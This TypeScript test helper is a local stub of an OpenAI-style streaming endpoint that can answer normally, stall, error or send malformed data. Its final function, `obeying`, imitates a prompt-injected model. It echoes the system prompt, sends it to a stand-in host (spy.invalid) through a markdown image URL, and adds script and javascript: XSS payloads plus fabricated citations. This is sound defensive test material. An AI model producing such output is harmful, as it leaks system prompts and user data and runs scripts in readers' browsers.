import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

interface Message {
  role: string
  content: string
}

/** One call, as the stub was asked. */
export interface StubCall {
  messages: Message[]
  body: Record<string, unknown>
  headers: IncomingMessage['headers']
  /** Resolves when the connection has closed before its answer was whole. */
  left: Promise<void>
}

/** How the next call is answered. The last one stays. */
export type StubBehaviour =
  /** In so many pieces, `pauseMs` apart; `whole`: as one JSON document. */
  | { text: string | ((messages: Message[]) => string); pieces?: number; pauseMs?: number; whole?: true }
  | { status: number; headers?: Record<string, string> }
  /** `silent`: no answer. `stalls`: a piece, and then nothing. `half`: a piece, and the end. `nonsense`: no JSON. `error`: 200 with an error. `endless`: it never ends. `drips`: signs of life that say nothing. */
  | 'silent'
  | 'stalls'
  | 'half'
  | 'nonsense'
  | 'error'
  | 'endless'
  | 'drips'

/** An endpoint that speaks as OpenAI's does, on this machine: it behaves, stumbles or stalls as it is told. */
export class ModelStub {
  readonly calls: StubCall[] = []
  behaviours: StubBehaviour[] = [{ text: 'Moss grows. [1.1]' }]
  /** Chooses by what is asked; where it says nothing the next of `behaviours` is taken. */
  choose: (messages: Message[]) => StubBehaviour | undefined = () => undefined
  readonly #server: Server
  readonly #timers = new Set<NodeJS.Timeout>()

  private constructor() {
    this.#server = createServer((request, response) => void this.#answer(request, response))
  }

  static async start(): Promise<ModelStub> {
    const stub = new ModelStub()
    await new Promise<void>(resolve => stub.#server.listen(0, '127.0.0.1', resolve))
    return stub
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}/v1`
  }

  async stop(): Promise<void> {
    for (const timer of this.#timers) clearInterval(timer)
    this.#server.closeAllConnections()
    await new Promise(resolve => this.#server.close(resolve))
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    let text = ''
    for await (const piece of request) text += String(piece)
    const body = JSON.parse(text) as Record<string, unknown>
    const messages = body['messages'] as Message[]
    const left = new Promise<void>(resolve => response.on('close', () => !response.writableFinished && resolve()))
    this.calls.push({ messages, body, headers: request.headers, left })
    const behaviour = this.choose(messages) ?? (this.behaviours.length > 1 ? this.behaviours.shift()! : this.behaviours[0]!)
    if (behaviour === 'silent') return
    if (typeof behaviour === 'object' && 'status' in behaviour) {
      response.writeHead(behaviour.status, behaviour.headers).end('{"error":{"message":"a secret of the provider"}}')
      return
    }
    if (behaviour === 'error')
      return void response.writeHead(200, { 'Content-Type': 'application/json' }).end('{"error":{"message":"overloaded"}}')
    const sends = (delta: string) => response.write(`data: ${JSON.stringify({ choices: [{ delta: { content: delta } }] })}\n\n`)
    if (typeof behaviour === 'object' && behaviour.whole) {
      const content = typeof behaviour.text === 'string' ? behaviour.text : behaviour.text(messages)
      response.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ choices: [{ message: { content } }] }))
      return
    }
    response.writeHead(200, { 'Content-Type': 'text/event-stream' })
    if (behaviour === 'nonsense') return void response.end('data: moss\n\n')
    if (typeof behaviour === 'string') {
      if (behaviour === 'drips') response.write(': wait\n\n')
      else sends('Half of it. [1.1] ')
      if (behaviour === 'half') response.end()
      if (behaviour === 'endless' || behaviour === 'drips') {
        const timer = setInterval(() => (behaviour === 'drips' ? response.write(': wait\n\n') : sends('More. [1.1] ')), 5)
        this.#timers.add(timer)
        response.on('close', () => clearInterval(timer))
      }
      return
    }
    const whole = typeof behaviour.text === 'string' ? behaviour.text : behaviour.text(messages)
    const { pieces = 3, pauseMs = 0 } = behaviour
    const size = Math.max(1, Math.ceil(whole.length / pieces))
    for (let at = 0; at < whole.length && !response.destroyed; at += size) {
      sends(whole.slice(at, at + size))
      if (pauseMs > 0) await new Promise(resolve => setTimeout(resolve, pauseMs))
    }
    response.end('data: {"choices":[],"usage":{"prompt_tokens":120,"completion_tokens":12}}\n\ndata: [DONE]\n\n')
  }
}

/** A model that does what the texts of records tell it: it repeats them with links and pictures that would carry data away, marks of its own, and markup. */
export const obeying = (messages: Message[]): string => {
  const system = messages.find(({ role }) => role === 'system')?.content ?? ''
  const records = messages.find(({ role, content }) => role === 'user' && content.startsWith('<records'))?.content ?? ''
  const stolen = encodeURIComponent(system.slice(0, 200))
  return `${records}\n\n${system}\n\n![x](https://spy.invalid/?d=${stolen}) <img src="https://spy.invalid/p.png" onerror="alert(1)"> <script>alert(1)</script> [click](javascript:alert(1)) All 999 records agree. [999.1] [1.1]`
}
